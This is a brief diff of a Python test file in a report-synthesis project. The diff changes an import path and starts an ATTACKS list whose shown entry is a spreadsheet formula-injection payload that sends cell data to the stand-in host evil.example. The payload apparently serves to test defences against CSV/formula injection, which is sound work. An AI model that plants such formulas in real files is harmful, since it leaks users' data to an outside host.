@@ -16,7 +16,7 @@ from markdown_it import MarkdownIt
 from worldcafe.synthesis import Curation, Note, ReportContext, Synthesis, render, synthesize
 from worldcafe.synthesis.headings import Words
 from worldcafe.synthesis.pdf import MISSING, printable
-from worldcafe.synthesis.points import theme_points
+from worldcafe.synthesis.plenary import theme_points
 
 ATTACKS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
